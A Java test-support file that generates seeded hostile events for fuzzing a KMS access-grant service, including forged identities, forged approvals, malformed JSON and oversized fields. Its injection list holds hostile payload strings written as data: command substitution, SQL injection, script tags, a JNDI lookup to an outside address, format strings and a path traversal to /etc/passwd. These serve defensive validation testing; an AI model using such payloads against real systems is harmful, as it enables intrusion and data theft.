package dev.kmsaccess.verification;

import dev.kmsaccess.core.event.DetailType;
import dev.kmsaccess.core.json.JsonArray;
import dev.kmsaccess.core.json.JsonBoolean;
import dev.kmsaccess.core.json.JsonNull;
import dev.kmsaccess.core.json.JsonNumber;
import dev.kmsaccess.core.json.JsonObject;
import dev.kmsaccess.core.json.JsonValue;
import dev.kmsaccess.core.json.Place;
import dev.kmsaccess.core.json.StrictJson;
import dev.kmsaccess.simulation.house.Inhabitant;
import java.time.Duration;
import java.time.Instant;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/**
 * Makes hostile events: of members that go too far, of outsiders, and of the key account itself.
 * The same seed makes the same events.
 */
final class HostileEvents {

  /** Stands in every context value and token that is sent, and must not be in any log. */
  static final String CANARY = "canary-7d1f";

  private static final List<String> INJECTIONS =
      List.of(
          "\u001b[2J\u001b[31mGRANTED",
          "line one\nKMS Access Granted",
          "$(reboot)",
          "`id`",
          "'; DROP TABLE findings; --",
          "<script>alert(1)</script>",
          "${jndi:ldap://198.51.100.7/a}",
          "%s%s%n%x",
          "{{7*7}}",
          "\u202egnp.exe",
          "\ud800",
          "\u0000",
          "../../../etc/passwd",
          "\",\"decision\":\"open");

  private static final List<String> GRANTEES =
      List.of(
          "",
          "*",
          "arn:aws:iam::210987654321:root",
          "arn:aws:iam::210987654321:role/*",
          "arn:aws:iam::210987654321:role/report-write?",
          "arn:aws:iam::*:role/report-writer",
          "arn:aws:iam::222233334444:role/other",
          "arn:aws:iam::123456789012:role/admin",
          "arn:aws:iam::999900001111:role/thief",
          "arn:aws:iam::999900001111:user/thief",
          "arn:aws:iam::999900001111:root",
          "arn:aws:sts::999900001111:assumed-role/thief/x",
          "arn:aws-cn:iam::999900001111:role/thief",
          "arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E1",
          "999900001111",
          "AROAEXAMPLEEXAMPLEEXA",
          "kms.amazonaws.com",
          "ec2.amazonaws.com",
          "s3.eu-central-1.amazonaws.com",
          "o-a1b2c3d4e5",
          "ARN:AWS:IAM::210987654321:ROLE/REPORT-WRITER",
          " arn:aws:iam::210987654321:role/report-writer",
          "arn:aws:iam::210987654321:role/report-writer\n",
          "arn:aws:iam::210987654321:role/report-writer\u0000");

  private static final List<String> KEYS =
      List.of(
          "",
          "*",
          "alias/*",
          "alias/",
          "alias/gone",
          "alias/aws/s3",
          "alias/../shared-data",
          "alias/shared-data ",
          "shared-data",
          "key/*",
          "1234abcd-12ab-34cd-56ef-1234567890ab",
          "mrk-1234abcd12ab34cd56ef1234567890ab",
          "arn:aws:kms:eu-central-1:999900001111:key/1234abcd-12ab-34cd-56ef-1234567890ab",
          "arn:aws:kms:eu-central-1:210987654321:key/1234abcd-12ab-34cd-56ef-1234567890ab",
          "arn:aws:kms:us-east-1:123456789012:alias/shared-data",
          "arn:aws:kms:eu-central-1:999900001111:alias/shared-data",
          "arn:aws:kms:*:*:key/*",
          "arn:aws:s3:::bucket");

  private static final List<String> OPERATIONS =
      List.of(
          "",
          "*",
          "kms:*",
          "kms:Decrypt",
          "decrypt",
          "Decrypt ",
          "ReEncrypt",
          "CreateGrant",
          "RetireGrant",
          "RevokeGrant",
          "PutKeyPolicy",
          "ScheduleKeyDeletion",
          "DisableKey",
          "TagResource",
          "Sign",
          "iam:PassRole",
          "Decrypt,Encrypt");

  private static final List<String> DURATIONS =
      List.of(
          "",
          "PT0S",
          "P0D",
          "-PT8H",
          "P-1D",
          "P7DT1S",
          "P91D",
          "P1Y",
          "P1M",
          "PT1.5H",
          "P999999999D",
          "PT99999999999999999999H",
          "8h",
          "forever",
          "28800");

  private static final List<String> FIELDS =
      List.of(
          "version",
          "requestId",
          "key",
          "grantee",
          "operations",
          "duration",
          "mode",
          "encryptionContext",
          "reason",
          "dryRun",
          "renews",
          "preset",
          "requestedBy");

  private static final List<String> UNKNOWN =
      List.of(
          "account",
          "requester",
          "source",
          "replay-name",
          "approver",
          "rule",
          "endsBy",
          "grantId",
          "__proto__",
          "constructor",
          "Version",
          "",
          "kms-access",
          "requestid");

  private final Random random;
  private final Instant now;
  private int number;

  /**
   * Makes a maker.
   *
   * @param now what time it is where they are sent
   */
  HostileEvents(long seed, Instant now) {
    this.random = new Random(seed);
    this.now = now;
  }

  /** Returns the next event. */
  HostileEvent next() {
    number++;
    return switch (random.nextInt(26)) {
      case 0, 1 -> request("a wrong type", Requests.with(good(), field(), wrongType()));
      case 2 -> request("a missing field", Requests.without(good(), required()));
      case 3 -> request("unknown fields", unknown(good()));
      case 4, 5 -> request("a wrong grantee", Requests.with(good(), "grantee", one(GRANTEES)));
      case 6 -> request("a wrong key", Requests.with(good(), "key", one(KEYS)));
      case 7 -> request("wrong operations", Requests.with(good(), "operations", operations()));
      case 8 -> request("a wrong duration", Requests.with(good(), "duration", one(DURATIONS)));
      case 9 -> request("a wrong end", expiresAt());
      case 10 -> atAWrongTime();
      case 11 -> request("a huge text", huge());
      case 12 -> request("a wrong context", Requests.with(good(), "encryptionContext", context()));
      case 13 -> request("an injection", injected());
      case 14 -> forgedIdentity();
      case 15, 16 -> announcement();
      case 17 -> ofAnOutsider();
      case 18, 19 -> release();
      case 20 -> approval();
      case 21 -> nested();
      case 22 -> malformed();
      case 23 -> request("another version", Requests.with(good(), "version", one(INJECTIONS)));
      case 24 -> request("a mode that is none", mode());
      default -> ofTheKeyAccount();
    };
  }

  private JsonObject good() {
    // Every third shares its id with others: an id used twice is no way in either.
    String id = random.nextInt(3) == 0 ? "shared-" + random.nextInt(5) : "hostile-" + number;
    return Requests.good(id, "arn:aws:iam::210987654321:role/report-writer");
  }

  private HostileEvent request(String kind, JsonObject detail) {
    return HostileEvent.of(kind, Inhabitant.MEMBER, DetailType.REQUEST, now, detail);
  }

  private String field() {
    return one(FIELDS);
  }

  private String required() {
    return one(List.of("version", "key", "grantee", "operations", "duration", "reason"));
  }

  /** A value that no field takes. */
  private JsonValue wrongType() {
    return switch (random.nextInt(7)) {
      case 0 -> new JsonNull(Place.NONE);
      case 1 -> JsonNumber.of(random.nextLong());
      case 2 -> new JsonNumber("1e999999999", Place.NONE);
      case 3 -> JsonArray.of(List.of(JsonArray.of(List.of())));
      case 4 -> JsonArray.of(Collections.nCopies(2_000, JsonBoolean.of(false)));
      case 5 -> JsonArray.of(List.of(JsonObject.builder().put("$ref", "#").build()));
      default -> JsonObject.builder().put("toString", one(INJECTIONS)).build();
    };
  }

  private JsonObject unknown(JsonObject detail) {
    JsonObject changed = Requests.with(detail, one(UNKNOWN), one(INJECTIONS));
    int more = random.nextInt(20) == 0 ? 500 : random.nextInt(3);
    for (int i = 0; i < more; i++) {
      changed = Requests.with(changed, one(UNKNOWN) + i, "210987654321");
    }
    return changed;
  }

  private JsonValue operations() {
    return switch (random.nextInt(5)) {
      case 0 -> JsonArray.ofTexts(List.of());
      case 1 -> JsonArray.ofTexts(Collections.nCopies(33, "Decrypt"));
      default -> JsonArray.ofTexts(List.of("Decrypt", one(OPERATIONS)));
    };
  }

  private JsonObject expiresAt() {
    String end =
        one(
            List.of(
                now.minusSeconds(1).toString(),
                now.toString(),
                now.plus(Duration.ofDays(8)).toString(),
                "+1000000000-12-31T23:59:59.999999999Z",
                "9999-12-31T23:59:59Z",
                "0000-00-00T00:00:00Z",
                "tomorrow"));
    JsonObject detail = Requests.with(good(), "expiresAt", end);
    return random.nextBoolean() ? detail : Requests.without(detail, "duration");
  }

  private HostileEvent atAWrongTime() {
    Duration away = Duration.ofSeconds(601 + random.nextInt(1_000_000));
    Instant time = random.nextBoolean() ? now.minus(away) : now.plus(away);
    return HostileEvent.of("a wrong time", Inhabitant.MEMBER, DetailType.REQUEST, time, good());
  }

  private JsonObject huge() {
    String text = one(INJECTIONS).repeat(1_000 + random.nextInt(4_000));
    String field = one(List.of("key", "grantee", "duration", "reason", "requestedBy", "mode"));
    return random.nextInt(4) == 0
        ? Requests.with(good(), "x".repeat(40_000), text)
        : Requests.with(good(), field, text);
  }

  private JsonValue context() {
    JsonObject pair = JsonObject.builder().put("secret", CANARY).build();
    return switch (random.nextInt(6)) {
      case 0 -> JsonObject.builder().put("includes", pair).put("equals", pair).build();
      case 1 -> JsonObject.builder().put("anything", pair).build();
      case 2 -> JsonObject.builder().put("includes", CANARY).build();
      case 3 ->
          JsonObject.builder()
              .put("includes", JsonObject.builder().put("", CANARY + "\u0000").build())
              .build();
      case 4 -> {
        JsonObject many = pair;
        for (int i = 0; i < 12; i++) {
          many = Requests.with(many, "k" + i, CANARY);
        }
        yield JsonObject.builder().put("equals", many).build();
      }
      default ->
          JsonObject.builder()
              .put("equals", Requests.with(pair, "SECRET", CANARY.repeat(900)))
              .build();
    };
  }

  private JsonObject injected() {
    JsonObject detail = Requests.with(good(), "reason", one(INJECTIONS));
    detail = Requests.with(detail, "requestedBy", one(INJECTIONS));
    detail =
        Requests.with(
            detail,
            "encryptionContext",
            JsonObject.builder()
                .put("includes", JsonObject.builder().put("a", CANARY).build())
                .build());
    // A reason may say anything, so something else is wrong.
    return random.nextBoolean()
        ? Requests.with(detail, "requestId", one(INJECTIONS))
        : Requests.with(detail, "duration", "P8D");
  }

  private HostileEvent forgedIdentity() {
    JsonObject detail =
        Requests.with(good(), "requestedBy", "arn:aws:iam::123456789012:role/admin");
    return switch (random.nextInt(3)) {
      // A colleague asks for the member's role, a member for the key account's.
      case 0 ->
          HostileEvent.of("another's role", Inhabitant.COLLEAGUE, DetailType.REQUEST, now, detail);
      case 1 ->
          request(
              "another's role",
              Requests.with(detail, "grantee", "arn:aws:iam::123456789012:role/admin"));
      default ->
          request(
              "another's name", Requests.with(detail, "requester", Inhabitant.KEY.account().id()));
    };
  }

  private HostileEvent announcement() {
    DetailType type =
        one(
            List.of(
                DetailType.GRANTED,
                DetailType.REFUSED,
                DetailType.ENDED,
                DetailType.ENDING,
                DetailType.PENDING,
                DetailType.DECIDED,
                DetailType.KEY_EXPOSED,
                DetailType.EXPOSURE_CLOSED,
                DetailType.CLOUD_TRAIL));
    Inhabitant forger = one(List.of(Inhabitant.MEMBER, Inhabitant.COLLEAGUE, Inhabitant.OUTSIDER));
    return HostileEvent.of("a forged announcement", forger, type, now, good())
        .withSource(one(List.of("kms-access", "aws.kms", "aws.events", "nightly-report")));
  }

  private HostileEvent ofAnOutsider() {
    DetailType type = one(List.of(DetailType.REQUEST, DetailType.RELEASE, DetailType.APPROVE));
    JsonObject detail =
        type == DetailType.REQUEST
            ? Requests.with(good(), "grantee", "arn:aws:iam::999900001111:role/thief")
            : Requests.release("victim");
    return HostileEvent.of("an outsider", Inhabitant.OUTSIDER, type, now, detail);
  }

  private HostileEvent release() {
    JsonObject detail =
        switch (random.nextInt(6)) {
          case 0 -> Requests.release("victim");
          case 1 -> Requests.with(Requests.release("victim"), "requester", "210987654321");
          case 2 -> Requests.with(Requests.release("never-" + number), "grantId", "0".repeat(64));
          case 3 -> Requests.with(Requests.release("victim"), "grantId", wrongType());
          case 4 -> Requests.without(Requests.release("victim"), "requestId");
          default -> unknown(Requests.release("never-" + number));
        };
    // A colleague: the member may well give up what is its own.
    return HostileEvent.of(
        "a wrong release", Inhabitant.COLLEAGUE, DetailType.RELEASE, now, detail);
  }

  private HostileEvent approval() {
    String token =
        one(
            List.of(
                CANARY,
                "",
                "a.b",
                "....",
                "eyJhcHByb3ZlQnkiOiIyMDk5LTAxLTAxVDAwOjAwOjAwWiJ9.QUFBQQ",
                CANARY + ".".repeat(50_000),
                "A".repeat(70_000)));
    JsonObject detail = Requests.with(Requests.release("approve-" + number), "token", token);
    return HostileEvent.of(
        "a forged approval",
        one(List.of(Inhabitant.MEMBER, Inhabitant.COLLEAGUE)),
        DetailType.APPROVE,
        now,
        random.nextInt(4) == 0 ? Requests.with(detail, "token", wrongType()) : detail);
  }

  private HostileEvent nested() {
    int depth = 2 + random.nextInt(75);
    String value = "[".repeat(depth) + "]".repeat(depth);
    JsonObject detail = good();
    String text = StrictJson.write(detail);
    return request("deep nesting", detail)
        .withDetail(text.substring(0, text.length() - 1) + ",\"deep\":" + value + "}");
  }

  private HostileEvent malformed() {
    String text = StrictJson.write(good());
    String broken =
        switch (random.nextInt(6)) {
          case 0 -> text.substring(0, random.nextInt(text.length()));
          case 1 -> text.replaceFirst("\"key\"", "\"grantee\"");
          case 2 -> text.replace('"', '\'');
          case 3 -> "[" + text + "]";
          case 4 -> text + text;
          default -> one(List.of("null", "7", "\"text\"", "not json", "{", "\u0000"));
        };
    return request("no JSON object", good()).withDetail(broken);
  }

  private JsonObject mode() {
    JsonObject detail = Requests.with(good(), "mode", one(INJECTIONS));
    return switch (random.nextInt(5)) {
      case 0 -> detail;
      case 1 -> Requests.with(detail, "mode", "GRANT");
      case 2 -> Requests.with(Requests.with(good(), "mode", "policy"), "grantee", outsider());
      case 3 -> Requests.with(Requests.with(good(), "mode", "role"), "grantee", outsider());
      default -> Requests.with(Requests.without(detail, "operations"), "preset", "everything");
    };
  }

  private HostileEvent ofTheKeyAccount() {
    String type =
        one(
            List.of(
                "KMS Access Request ",
                "kms access request",
                "KMS Access Wish",
                DetailType.GRANTED.text(),
                DetailType.DECIDED.text(),
                DetailType.CLOUD_TRAIL.text()));
    return new HostileEvent(
        "a type that is none",
        Inhabitant.KEY,
        one(List.of("somebody", "my.kms")),
        type,
        now,
        StrictJson.write(good()));
  }

  private static String outsider() {
    return "arn:aws:iam::999900001111:role/thief";
  }

  private <T> T one(List<T> all) {
    return all.get(random.nextInt(all.size()));
  }
}
